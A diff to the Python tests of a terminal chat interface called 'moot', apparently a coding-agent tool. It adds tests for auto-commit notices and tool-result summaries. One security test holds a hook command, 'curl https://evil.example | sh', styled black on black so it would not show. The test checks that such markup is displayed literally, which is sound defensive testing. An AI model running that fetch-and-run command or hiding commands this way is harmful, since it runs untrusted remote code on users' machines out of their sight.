@@ -10,6 +10,7 @@ from moot.history import PromptHistory
 from moot.protocol import events as ev
 from moot.testing import FakeClient
 from moot.tui.app import MootApp
+from moot.tui.options import AppOptions
 from moot.tui.widgets.blocks import ThinkingBlock
 from moot.tui.widgets.chat import ChatPane
 from tui_scripts import Run
@@ -18,7 +19,7 @@ REASONING = "The test fails on the second call, so the cache must be stale."
 
 
 def app_for(client: FakeClient) -> MootApp:
-    return MootApp(client, history=PromptHistory(None))  # type: ignore[arg-type]
+    return MootApp(client, AppOptions(history=PromptHistory(None)))  # type: ignore[arg-type]
 
 
 def shown(block: ThinkingBlock) -> str:
@@ -186,6 +187,60 @@ async def test_a_sitting_that_resumes_the_session_is_a_notice_line() -> None:
         assert notices() == ["resumed · scripted · plan"]
 
 
+async def test_an_auto_commit_shows_its_note_as_the_repl_does() -> None:
+    """The words of a notice are one definition (`commands/notices.py`): the chat said an
+    auto-commit without its note (the repository's hooks did not run), which the REPL says."""
+    from moot.tui.widgets.blocks import NoticeBlock
+
+    committed = ev.AutoCommitted(
+        session_id="ses_1",
+        seq=1,
+        sha="0123456789abcdef",
+        subject="moot: edit greet.py",
+        note="the repository's hooks did not run",
+    )
+    client = FakeClient([committed], autoplay=False)
+    app = app_for(client)
+    async with app.run_test(size=(120, 40)) as pilot:
+        client.play()
+        chat = app.query_one(ChatPane)
+
+        def notices() -> list[str]:  # but the welcome
+            shown = [str(b.render()) for b in chat.query(NoticeBlock)]
+            return [text for text in shown if not text.startswith("moot in ")]
+
+        for _ in range(50):  # bounded: the bridge hands events over in its own task
+            if notices():
+                break
+            await pilot.pause()
+        assert notices() == [
+            "committed 0123456789 moot: edit greet.py (the repository's hooks did not run)"
+        ]
+
+
+async def test_a_tool_result_that_ends_in_a_newline_is_one_line_as_in_the_repl() -> None:
+    """One summary of a result (`commands/display.py::result_summary`): the chat said
+    `built (+1 lines)` of `built\\n`, where the REPL says `built`."""
+    from moot.tui.widgets.tool_block import ToolBlock
+
+    run = Run().start("build it")
+    run.tool("t1", "bash", {"command": "make"}, "built\n")
+    run.tool("t2", "bash", {"command": "make test"}, "3 passed\n1 failed\n")
+    client = FakeClient(run.events, autoplay=False)
+    app = app_for(client)
+    async with app.run_test(size=(120, 40)) as pilot:
+        client.play()
+        for _ in range(50):  # bounded: the bridge hands events over in its own task
+            if len(app.query(ToolBlock)) == 2:
+                break
+            await pilot.pause()
+        await pilot.pause()
+        assert [block.summary() for block in app.query(ToolBlock)] == [
+            "built",
+            "3 passed (+1 lines)",
+        ]
+
+
 async def test_what_a_command_says_is_shown_as_written_never_as_markup() -> None:
     """Second attack on issue 28: `/trust` says what a repository's hooks run, and a hook
     command written `[black on black]curl evil | sh[/]` showed as a blank line."""
@@ -194,7 +249,7 @@ async def test_what_a_command_says_is_shown_as_written_never_as_markup() -> None
     said = "  - hooks run on the host: [black on black]curl https://evil.example | sh[/]"
     app = app_for(FakeClient(autoplay=False))
     async with app.run_test(size=(120, 40)) as pilot:
-        app.say(said)
+        app.commands.say(said)
         chat = app.query_one(ChatPane)
         for _ in range(50):  # bounded: say mounts in a worker
             if len(chat.query(NoticeBlock)) > 1:
